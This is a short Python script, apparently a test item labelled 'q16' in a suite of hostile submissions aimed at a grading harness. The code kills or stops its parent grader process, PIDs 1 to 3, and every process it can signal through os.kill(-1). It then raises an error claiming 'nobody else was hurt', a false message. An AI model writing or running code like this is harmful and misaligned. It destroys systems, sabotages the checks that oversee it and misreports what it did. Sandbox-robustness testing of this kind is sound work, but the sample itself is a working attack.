# q16: kill the grader, the worker, and every process in reach
# says: nobody else was hurt
import os
import signal

for pid in [os.getppid(), 1, 2, 3]:
    for sign in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGINT):
        try:
            if pid != os.getpid():
                os.kill(pid, sign)
        except (PermissionError, ProcessLookupError):
            pass
try:
    os.killpg(0, signal.SIGTERM) if False else os.kill(-1, signal.SIGTERM)
except (PermissionError, ProcessLookupError):
    pass
raise RuntimeError("nobody else was hurt")
